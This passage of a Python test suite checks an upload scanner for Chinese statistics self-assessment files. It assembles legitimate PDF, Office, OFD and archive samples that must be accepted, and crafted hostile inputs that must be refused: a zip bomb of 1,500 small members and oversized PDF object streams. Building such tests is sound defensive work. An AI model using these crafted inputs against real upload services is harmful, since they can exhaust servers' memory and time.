    """A chart with an embedded font and a Flate-encoded picture (an image stream with a predictor-free RGB body)."""
    import matplotlib

    matplotlib.use("Agg")
    from matplotlib.figure import Figure

    figure = Figure(figsize=(3, 2))
    axes = figure.subplots()
    axes.imshow([[(x * y) % 7 for x in range(40)] for y in range(30)])
    axes.set_title("self assessment 2024")
    buffer = io.BytesIO()
    figure.savefig(buffer, format="pdf")
    return buffer.getvalue()


def _legit() -> list[tuple[str, bytes]]:
    files = [(p.name, p.read_bytes()) for p in sorted(LEGIT_DIR.iterdir())]
    pptx = _zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "_rels/.rels": b"<Relationships/>",
            "ppt/presentation.xml": b"<p/>",
            "ppt/media/image1.png": _png(),
            "docProps/thumbnail.jpeg": (LEGIT_DIR / "现场照片.jpg").read_bytes(),
        }
    )
    ofd = _zip({"OFD.xml": b"<ofd:OFD/>", "Doc_0/Document.xml": b"<ofd:Document/>", "Doc_0/Res/image_1.png": _png()})
    documents = {
        p.name: p.read_bytes() for p in LEGIT_DIR.iterdir() if p.suffix in (".pdf", ".docx", ".xlsx", ".doc", ".jpg")
    }
    files += [
        ("评分表.pdf", pdf_bytes()),
        ("图表.pdf", _matplotlib_pdf()),
        ("评分表.pdf", pdf_bytes("Ratio A/JS (see /Launch plan) and FE/EF \\(draft\\)")),  # names in a page's text
        (
            "评分表.pdf",
            _pdf_with(b"<</S/URI/URI(http://tjj.example.cn/)>>"),
        ),  # an ordinary web link ("总结报告.docx", docx_bytes()), ("评分表.xlsx", xlsx_bytes()),
        ("汇报.pptx", pptx),
        ("总结.ofd", ofd),
        ("视频.mp4", b"\0\0\0\x20ftypisom" + b"\0" * 100),
        ("材料.zip", _zip(documents)),
        ("材料.zip", _zip({"资料/": b"", "资料/说明.txt": "乡镇说明".encode(), **documents})),
        ("材料.zip", _zip({"各乡镇.zip": _zip(documents), "说明.txt": "见各乡镇材料".encode("gb18030")})),
        ("材料.zip", _deep(3)),  # three archives deep is still inspected
        (
            "总结报告.docx",
            _docx_with(
                {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx_bytes(), "word/media/image1.png": _png()}
            ),
        ),
        (
            "总结报告.docx",
            _rezip(
                REAL_DOCX,
                change={
                    "word/document.xml": _in_body(
                        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                        '<w:r><w:instrText> HYPERLINK "http://tjj.example.cn/dde" </w:instrText></w:r>'
                        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE 说明</w:t></w:r>'
                        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
                        '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
                    )
                },
                add={"word/_rels/footer1.xml.rels": _rels("hyperlink", "http://tjj.example.cn/")},
            ),
        ),
        (
            "评分表.xlsx",
            _rezip(
                REAL_XLSX,
                change={
                    SHEET: _in_sheet(
                        '<row r="90"><c r="A90"><f>SUM(B2:B3)</f></c>'
                        '<c r="B90"><f>IF(A90&gt;60,"达标","未达标")</f></c>'
                        '<c r="C90"><f>HYPERLINK("http://tjj.example.cn","统计局")</f></c>'
                        '<c r="D90"><f>A1&amp;"x|y"&amp;Sheet1!B1</f></c>'
                        '<c r="E90"><f>TEXTJOIN("|",TRUE,Sheet1!A1:A3)</f></c></row>'
                    )
                },
            ),
        ),
        *(  # a workbook linked to another on the clerk's own disk: Excel reads nothing from elsewhere
            ("汇总表.xlsx", _rezip(REAL_XLSX, {"xl/externalLinks/_rels/externalLink1.xml.rels": _rels(kind, target)}))
            for kind, target in (
                ("externalLinkPath", "file:///C:\\统计\\县数据.xlsx"),
                ("externalLinkPath", "县数据.xlsx"),
                ("externalLinkPath", "../各县/县数据.xlsx"),
            )
        ),
        ("得分.csv", "单位,得分,变化,备注\n乐平镇,91,-3,\n皋落镇,85,+2.5,良好\n东冶头镇,77,-0.5,-\n".encode("gb18030")),
        (
            "说明.txt",
            "自查说明：统计台账已建立；from 2024 起按月 import 数据（只是文字）。\nset 好了，if 需要再补。".encode(),
        ),
    ]
    return files


def _checked(tmp_path: Path, name: str, data: bytes, index: int) -> str | None:
    """None when accepted, else the Chinese reason."""
    folder = tmp_path / str(index)
    folder.mkdir()
    path = folder / name
    path.write_bytes(data)
    started = time.monotonic()
    try:
        check_file(path, name, [], max_bytes=50 * 1024 * 1024)
        reason = None
    except SubmissionError as refused:
        reason = refused.cn
    assert time.monotonic() - started < 20, f"{name} took too long"  # a hang, not a speed target
    return reason


CASES = [(kind, index, name, data) for kind, found in DISGUISES.items() for index, (name, data) in enumerate(found)]


@pytest.mark.parametrize(("kind", "index", "name", "data"), CASES, ids=[f"{k}-{i}" for k, i, _n, _d in CASES])
def test_every_disguise_is_refused_in_chinese(tmp_path, kind, index, name, data):
    reason = _checked(tmp_path, name, data, index)
    assert reason is not None, f"{kind} #{index} {name} got through"
    assert reason.startswith(f"文件「{name}」"), reason


def test_every_real_document_is_accepted(tmp_path):
    refused = {
        f"{name}#{i}": reason
        for i, (name, data) in enumerate(_legit())
        if (reason := _checked(tmp_path, name, data, i)) is not None
    }
    assert refused == {}
    assert len(_legit()) >= 25


def test_a_zip_bomb_of_small_members_is_refused_from_its_directory_at_once(tmp_path):
    """1,500 members of 200 KB each (459 KB uploaded, 300 MB declared) took 181 s to refuse, and 100 of them (30 KB)
    were accepted after 55 s: the central directory alone now refuses both, before anything is inflated."""
    for count, words in ((1500, "256 MB"), (100, "压缩比异常")):
        started = time.perf_counter()
        reason = _checked(tmp_path, "材料.zip", _zip_same(count, 200_000), count)
        assert reason is not None and words in reason, reason
        assert time.perf_counter() - started < 1.0


def test_pictures_past_the_decoding_bound_are_not_decoded_but_page_objects_are_refused(tmp_path, monkeypatch):
    """A long scan of Flate pictures must not make its pages unreadable to the check (pictures beyond the bound are
    left as they are), while objects beyond it are refused rather than trusted."""
    from duban.domain import filescan

    monkeypatch.setattr(filescan, "MAX_STREAMS", 1_000_000)
    picture = zlib.compress(bytes(600_000))
    images = [
        b"<</Type/XObject/Subtype/Image/Width 1000/Height 600/ColorSpace/DeviceGray/BitsPerComponent 8"
        b"/Filter/FlateDecode/Length %d>>\nstream\n" % len(picture) + picture + b"\nendstream"
    ] * 3
    catalog = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"]
    content = zlib.compress(b"BT /F1 12 Tf (page) Tj ET\n" * 30_000)  # 780 KB of page content
    page = b"<</Filter/FlateDecode/Length %d>>\nstream\n" % len(content) + content + b"\nendstream"
    assert _checked(tmp_path, "扫描件.pdf", _pdf_from([*catalog, *images, page]), 1) is None
    objects = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(content) + content
    reason = _checked(tmp_path, "扫描件.pdf", _pdf_from([*catalog, page, objects + b"\nendstream"]), 2)
    assert reason is not None and "过大" in reason, reason


def test_the_whole_corpus_is_checked_in_flat_memory(tmp_path):
    """Every file of the corpus, the 40 MB zip bomb and the 2,500-member archive included, within 40 MB of Python
    allocations: members are streamed and spooled to disk, never read whole."""
    tracemalloc.start()
    try:
        for index, (_kind, _i, name, data) in enumerate(CASES):
            _checked(tmp_path, name, data, index)
            del data
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 40 * 1024 * 1024, f"peak {peak / 1024 / 1024:.0f} MB"


def tally(tmp_path: Path) -> dict[str, tuple[int, int]]:
    """Attempts and how many got through, per attack class."""
    counts, index = {}, 0
    for kind, found in DISGUISES.items():
        through = 0
        for name, data in found:
            index += 1
            through += _checked(tmp_path, name, data, index) is None
        counts[kind] = (len(found), through)
    return counts


if __name__ == "__main__":
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        rows = tally(Path(folder))
        legit = [n for i, (n, d) in enumerate(_legit()) if _checked(Path(folder), n, d, 10_000 + i) is not None]
    for kind, (tried, through) in rows.items():
        print(f"{kind:38s} {tried:3d} tried, {through} got through")
    print(f"{'total':38s} {sum(t for t, _ in rows.values()):3d} tried, {sum(g for _, g in rows.values())} got through")
    print(f"legitimate files: {len(_legit())}, refused: {len(legit)} {legit}")
